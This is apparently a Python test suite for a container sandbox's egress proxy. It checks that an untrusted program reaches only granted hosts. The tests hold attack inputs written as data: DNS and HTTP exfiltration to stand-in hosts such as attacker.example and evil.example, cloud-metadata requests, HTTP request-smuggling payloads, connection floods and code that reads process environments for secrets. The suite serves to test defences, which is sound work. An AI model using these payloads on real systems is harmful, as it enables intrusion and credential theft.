"""The granted network of a container under attack, on a real engine: what was granted is reached through the proxy, and nothing else."""

import hashlib
import json
import socket
import ssl
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace

import anyio
import pytest

from symbi.adapters.docker import DockerSandbox
from symbi.adapters.egress import EgressProxy, dial
from symbi.adapters.secrets import EnvironmentSecrets
from symbi.clock import SystemClock
from symbi.errors import Denied, SandboxUnavailable, TimeLimit
from symbi.guard.action import RunContainer
from symbi.guard.permit import Authority
from symbi.sandbox.egress import EgressLimits
from symbi.testing.clock import ManualClock
from symbi.testing.outside import LOOPBACK, OutsideAuthority, OutsideServer, outside_server, say
from symbi.types import AgentId, EffectId, Principal

pytestmark = [pytest.mark.anyio, pytest.mark.servers]

SECRET = "sesame-4711-open"
HELPERS = """
import json, os, socket, sys
def say(data, end=False):
    with socket.create_connection(("127.0.0.1", 3128), 10) as line:
        line.settimeout(20)
        try:
            line.sendall(data)
            if end:
                line.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        heard = b""
        try:
            while piece := line.recv(65536):
                heard += piece
        except OSError as error:
            heard += repr(error).encode()
        return heard.decode("latin-1")
def last(data, end=False):
    heard = say(data, end)
    return heard.splitlines()[-1] if heard else ""
def tell(what):
    json.dump(what, sys.stdout)
"""


@dataclass
class Grants:
    """A container that is granted a network, and all that came of it."""

    target: object
    server: OutsideServer
    context: ssl.SSLContext
    names: dict = field(default_factory=lambda: {"api.example": [LOOPBACK]})
    events: list = field(default_factory=list)
    resolved: list = field(default_factory=list)
    limits: EgressLimits = field(default_factory=EgressLimits)
    noted: dict = field(default_factory=dict)

    async def tell(self, draft):
        self.events.append((draft.event_type.removeprefix("egress."), draft.details))

    async def resolve(self, host):
        self.resolved.append(host)
        return self.names[host]

    async def dial(self, address, port, name, context):
        return await dial(address, self.server.port, name, context)

    async def run(self, code, network=("api.example:80",), credentials=None, timeout_s=60.0, mibitps=0):
        """The result of a program."""
        authority = Authority(ManualClock())
        options = replace(self.target.options, images=frozenset({self.target.docker.image}), output_bytes=1_048_576)
        egress = EgressProxy(
            authority, EnvironmentSecrets(authority, {"SYMBI_SECRET_KEY": SECRET}), self.tell, SystemClock(), limits=self.limits,
            resolver=self.resolve, dialer=self.dial, context=self.context, permitted=frozenset({LOOPBACK}),
        )  # fmt: skip
        action = RunContainer(
            principal=Principal(AgentId("attacker")), image=self.target.docker.image, command=("python3", "/tmp/in/p.py"),
            tier=self.target.tier, inputs={"p.py": HELPERS + code}, network=network, credentials=credentials or {},
            timeout_s=timeout_s, network_mibitps=mibitps,
        )  # fmt: skip
        permit = authority.mint(EffectId("e"), action)
        async with DockerSandbox(authority, self.target.tier, self.target.engine, options, egress=egress) as driver:
            try:
                with anyio.fail_after(timeout_s + 60):
                    return await driver.run_command(permit)
            finally:
                self.noted = dict(permit.noted)

    async def value(self, code, *arguments, **options):
        """What a program told that has to end well."""
        result = await self.run(code, *arguments, **options)
        assert result.code == 0, (result, self.events)
        return json.loads(result.stdout)

    def rules(self):
        return [facts["rule"] for kind, facts in self.events if kind == "refused"]


@pytest.fixture
async def grants(target):
    async with outside_server() as server:
        yield Grants(target, server, OutsideAuthority().client())


@asynccontextmanager
async def with_tls(target):
    authority = OutsideAuthority()
    async with outside_server(authority.server("api.example")) as server:
        yield Grants(target, server, authority.client())


REACH = """
import errno, urllib.request
found = {}
answer = urllib.request.urlopen("http://api.example/x", timeout=20)
with socket.socket(fileno=os.dup(answer.fileno())) as line:
    found["get"] = answer.read().decode()
    line.settimeout(20)
    line.recv(1)  # its end: the next connection comes after it
tunnel = b"CONNECT api.example:80 HTTP/1.1\\r\\n\\r\\nPOST /y HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: 2\\r\\n\\r\\nhi"
found["tunnel"] = last(tunnel)
def go(address, port, kind=socket.SOCK_STREAM):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind) as line:
        line.settimeout(3)
        try:
            line.connect((address, port))
            line.send(b"x")
            return "reached"
        except OSError as error:
            return errno.errorcode.get(error.errno, str(error))
found["direct"] = sorted({go(*one) for one in (("8.8.8.8", 53), ("169.254.169.254", 80), ("10.0.0.1", 80), ("127.0.0.1", PORT),
                         ("::1", PORT), ("2001:4860:4860::8888", 443), ("8.8.8.8", 53, socket.SOCK_DGRAM), ("169.254.169.254", 53, socket.SOCK_DGRAM))})
try:
    found["dns"] = repr(socket.getaddrinfo("c2VjcmV0.attacker.example", 80))
except OSError:
    found["dns"] = "no answer"
tell(found)
"""


async def test_what_is_granted_is_reached_through_the_proxy_and_nothing_else(grants):
    found = await grants.value(f"PORT = {grants.server.port}\n{REACH}")
    assert (found["get"], found["tunnel"]) == ("hello from outside", "hello from outside")
    assert set(found["direct"]) <= {
        "ENETUNREACH",
        "EHOSTUNREACH",
        "ECONNREFUSED",
        "EADDRNOTAVAIL",
        "ENETDOWN",
        "EAFNOSUPPORT",
    }
    assert found["dns"] == "no answer"
    assert [(one.method, one.target, one.body) for one in grants.server.asked] == [
        ("GET", "/x", b""),
        ("POST", "/y", b"hi"),
    ]
    assert [kind for kind, _ in grants.events] == ["connected", "closed", "connected", "closed"]
    assert grants.noted["egress"]["connections"] == 2
    assert grants.noted["sandbox"]["interfaces"] == ["lo"]


ATTACKS = {
    "another host": (b"GET http://evil.example/?all HTTP/1.1\r\nHost: evil.example\r\n\r\n", "egress.host"),
    "a name below the granted one": (b"GET http://c2VjcmV0.api.example/ HTTP/1.1\r\nHost: c2VjcmV0.api.example\r\n\r\n", "egress.host"),
    "a long name": (b"CONNECT " + b"a" * 60 + b"." + b"b" * 60 + b".attacker.example:443 HTTP/1.1\r\n\r\n", "egress.host"),
    "metadata": (b"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", "egress.host"),
    "metadata by name": (b"GET http://metadata.google.internal/ HTTP/1.1\r\nHost: metadata.google.internal\r\n\r\n", "egress.malformed"),
    "metadata in another spelling": (b"GET http://0xa9fea9fe/ HTTP/1.1\r\nHost: 0xa9fea9fe\r\n\r\n", "egress.malformed"),
    "metadata in IPv6": (b"GET http://[::ffff:169.254.169.254]/ HTTP/1.1\r\nHost: [::ffff:169.254.169.254]\r\n\r\n", "egress.malformed"),
    "the host's loopback": (b"CONNECT 127.0.0.1:80 HTTP/1.1\r\n\r\n", "egress.host"),
    "the host's loopback by name": (b"CONNECT localhost:80 HTTP/1.1\r\n\r\n", "egress.malformed"),
    "another port": (b"CONNECT api.example:22 HTTP/1.1\r\n\r\n", "egress.port"),
    "a resolver": (b"CONNECT 8.8.8.8:53 HTTP/1.1\r\n\r\n", "egress.host"),
    "two lengths": (b"POST http://api.example/ HTTP/1.1\r\nHost: api.example\r\nContent-Length: 3\r\nContent-Length: 30\r\n\r\nabc", "egress.malformed"),
    "a length and chunks": (b"POST http://api.example/ HTTP/1.1\r\nHost: api.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled", "egress.malformed"),
    "an odd coding": (b"POST http://api.example/ HTTP/1.1\r\nHost: api.example\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", "egress.malformed"),
    "a bare line feed": (b"GET http://api.example/ HTTP/1.1\nHost: api.example\n\n\r\n\r\n", "egress.malformed"),
    "a host that is another": (b"GET http://api.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n", "egress.malformed"),
    "no proxy request": (b"GET / HTTP/1.1\r\nHost: api.example\r\n\r\n", "egress.malformed"),
    "no HTTP": (b"\x16\x03\x01\x00\x00", "egress.malformed"),
    "a large head": (b"GET http://api.example/ HTTP/1.1\r\nX: " + b"x" * 40_000, "egress.head"),
    "a head that does not end": (b"GET http://api.example/ HTTP/1.1\r\nHost: api.example\r\n", "egress.time"),
}  # fmt: skip


async def test_no_attack_on_the_proxy_gets_out(grants):
    grants.limits = EgressLimits(head_s=5.0)  # no attack but the last takes that long, on a busy machine either
    attacks = {name: said.decode("latin-1") for name, (said, _) in ATTACKS.items()}
    code = f"ATTACKS = json.loads({json.dumps(attacks)!r})\ntell({{name: last(said.encode('latin-1')) for name, said in ATTACKS.items()}})"
    assert await grants.value(code) == {name: rule for name, (_, rule) in ATTACKS.items()}
    assert (grants.server.connections, grants.resolved) == (0, ["api.example"])
    assert grants.rules() == [rule for _, rule in ATTACKS.values()]


async def test_a_name_that_is_rebound_changes_nothing_and_one_with_a_private_address_is_no_grant(grants):
    get = "GET = b'GET http://api.example/ HTTP/1.1\\r\\nHost: api.example\\r\\n\\r\\n'\n"

    def rebind(_):
        grants.names["api.example"] = ["169.254.169.254"]
        return say(b"first")

    grants.server.answer = rebind
    found = await grants.value(f"{get}tell([last(GET), last(GET)])")
    assert found == ["first", "first"]
    assert grants.resolved == ["api.example"]
    assert {facts["address"] for _, facts in grants.events} == {LOOPBACK}
    for address in ("169.254.169.254", "10.0.0.1", "::ffff:127.0.0.1"):
        grants.names["api.example"] = ["1.1.1.1", address]
        with pytest.raises(Denied):
            await grants.run("tell(1)")


LOOK = """
import subprocess
GET = b"GET http://api.example/%s HTTP/1.1\\r\\nHost: api.example\\r\\nAuthorization: Bearer placeholder\\r\\n\\r\\n"
seen = [say(GET % one) for one in (b"plain", b"echo")]
seen.append(say(b"CONNECT api.example:443 HTTP/1.1\\r\\n\\r\\nGET /tunnel HTTP/1.1\\r\\n\\r\\n"))
seen.append(say(b"TRACE http://api.example/ HTTP/1.1\\r\\nHost: api.example\\r\\n\\r\\n"))
seen.append(say(b"GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"))
for folder, _, names in os.walk("/proc"):
    for name in names:
        if name in {"environ", "cmdline", "maps"}:
            try:
                seen.append(open(os.path.join(folder, name), "rb").read(65536).decode("latin-1"))
            except OSError:
                pass
seen.append(repr(dict(os.environ)))
tell(seen[:5] + ["".join(seen[5:])])
"""


async def test_a_credential_is_used_and_never_seen(target):
    async with with_tls(target) as grants:
        grants.server.answer = lambda asked: say(
            b"well" if asked.target == "/plain" else ", ".join(asked.all("authorization")).encode()
        )
        seen = await grants.value(LOOK, ("api.example:443",), {"api.example": "key"})
    assert [one.all("authorization") for one in grants.server.asked] == [[f"Bearer {SECRET}"]] * 2
    assert [one.splitlines()[-1] for one in seen[:5]] == [
        "well",
        "egress.credential",
        "egress.tunnel",
        "egress.method",
        "egress.host",
    ]
    assert "http_proxy" in seen[5]
    for told in (*seen, json.dumps(grants.events), json.dumps(grants.noted)):
        assert SECRET not in told
        assert SECRET.encode().hex() not in told


MUCH = """
import hashlib
body = bytes(range(256)) * 4096 * 3
head = b"POST http://api.example/ HTTP/1.1\\r\\nHost: api.example\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body)
got = say(head + body).encode("latin-1").partition(b"\\r\\n\\r\\n")[2]
tell([len(got), hashlib.sha256(got).hexdigest()])
"""


async def test_what_goes_out_and_comes_in_is_whole(grants):
    grants.limits = EgressLimits(bytes_per_s=1 << 30)
    grants.server.answer = lambda asked: say(asked.body[::-1])
    body = bytes(range(256)) * 4096 * 3
    assert await grants.value(MUCH) == [len(body), hashlib.sha256(body[::-1]).hexdigest()]
    assert grants.server.asked[0].body == body


async def test_no_more_gets_out_or_in_than_is_granted(grants):
    grants.limits = EgressLimits(sent_bytes=100_000, received_bytes=100_000)
    grants.server.answer = lambda _: say(b"x" * 200_000)
    code = (
        "post = b'POST http://api.example/ HTTP/1.1\\r\\nHost: api.example\\r\\nContent-Length: 9000000\\r\\n\\r\\n' + b'x' * 9000000\n"
        "get = b'GET http://api.example/ HTTP/1.1\\r\\nHost: api.example\\r\\n\\r\\n'\n"
        "tell([len(say(get)) < 110000, last(post), last(get)])"
    )
    assert await grants.value(code) == [True, "egress.bytes", "egress.bytes"]
    assert [one.method for one in grants.server.asked] == ["GET", "GET"]
    assert grants.noted["egress"]["sent"] <= 100_000
    assert grants.noted["egress"]["received"] <= 100_000


async def test_bytes_pass_no_faster_than_their_rate(grants):
    grants.limits = EgressLimits(bytes_per_s=400_000)
    grants.server.answer = lambda _: say(b"x" * 1_600_000)
    get = "b'GET http://api.example/ HTTP/1.1\\r\\nHost: api.example\\r\\n\\r\\n'"
    code = f"import time\nbegan = time.monotonic()\nheard = say({get})\ntell([len(heard), time.monotonic() - began])"
    size, took_s = await grants.value(code)
    assert size > 1_600_000
    assert took_s > 0.95 * (1_600_000 - 400_000) / 400_000  # what is over the burst


async def test_bytes_pass_no_faster_than_an_agent_claims_though_more_is_allowed(grants):
    grants.limits = EgressLimits(bytes_per_s=8_000_000)
    grants.server.answer = lambda _: say(b"x" * 400_000)
    get = "b'GET http://api.example/ HTTP/1.1\\r\\nHost: api.example\\r\\n\\r\\n'"
    code = f"import time\nbegan = time.monotonic()\nheard = say({get})\ntell([len(heard), time.monotonic() - began])"
    size, took_s = await grants.value(code, mibitps=1)
    assert size > 400_000
    assert took_s > 0.95 * (400_000 - 131_072) / 131_072
    assert grants.noted["egress"]["bytes_per_s"] == 131_072


FLOOD = """
held = []
for _ in range(300):
    try:
        held.append(socket.create_connection(("127.0.0.1", 3128), 0.2))
    except OSError:
        break
for line in held:
    line.close()
deaf = socket.create_connection(("127.0.0.1", 3128), 10)
deaf.sendall(b"GET http://api.example/large HTTP/1.1\\r\\nHost: api.example\\r\\n\\r\\n")
GET = b"GET http://api.example/ HTTP/1.1\\r\\nHost: api.example\\r\\n\\r\\n"
while (said := last(GET)) == "egress.connections":  # those that were let go are still being counted
    pass
tell([len(held) > 8, said])
"""


async def test_neither_a_flood_of_connections_nor_one_that_is_not_read_holds_up_another(grants):
    grants.limits = EgressLimits(connections=20_000, idle_s=60)
    grants.server.answer = lambda asked: say(b"x" * 4_000_000 if asked.target == "/large" else b"hello")
    assert await grants.value(FLOOD) == [True, "hello"]
    assert grants.events[-1][0] == "closed"


HOLD = """
import time
lines = [socket.create_connection(("127.0.0.1", 3128), 10) for _ in range(3)]
for line in lines:
    line.sendall(b"CONNECT api.example:80 HTTP/1.1\\r\\n\\r\\nGET")
    line.recv(100)
time.sleep(60)
"""


async def test_connections_end_with_their_program_and_stand_on_the_trail(grants):
    with pytest.raises(TimeLimit):
        await grants.run(HOLD, timeout_s=10.0)  # it has connected by then
    assert sorted(kind for kind, _ in grants.events) == ["closed"] * 3 + ["connected"] * 3
    assert {facts["rule"] for kind, facts in grants.events if kind == "closed"} == {"egress.cancelled"}
    assert grants.noted["egress"]["connections"] == 3
    grants.events.clear()
    with anyio.move_on_after(4):
        await grants.run(HOLD)
    assert [kind for kind, _ in grants.events].count("closed") == [kind for kind, _ in grants.events].count("connected")


async def test_without_a_grant_nobody_listens(grants):
    result = await grants.run("say(b'x')", network=())
    assert (result.code, "ConnectionRefusedError" in result.stderr) == (1, True)
    assert grants.events == []


async def test_a_program_that_writes_frames_of_its_own_ends_itself_alone(grants):
    code = (
        "for path in ('/proc/1/fd/1', '/proc/1/fd/0'):\n"
        "    try:\n        open(path, 'wb', buffering=0).write(b'0' * 32 + b'00000002{}')\n"
        "    except OSError as error:\n        print(type(error).__name__)\n"
    )
    ended = None
    try:
        ended = await grants.run(code)
    except SandboxUnavailable as error:
        refused = error
    assert ended.code in {0, 1} if ended else refused.code == "unavailable.sandbox_answer"


async def test_the_proxy_s_port_is_not_one_of_the_host(grants):
    with socket.socket() as line:
        busy = line.connect_ex((LOOPBACK, 3128)) == 0
    grants.server.answer = lambda _: say(b"1" if _is_open() else b"0")
    get = "tell(last(b'GET http://api.example/ HTTP/1.1\\r\\nHost: api.example\\r\\n\\r\\n'))"
    assert busy or await grants.value(get) == "0"


def _is_open():
    with socket.socket() as line:
        return line.connect_ex((LOOPBACK, 3128)) == 0
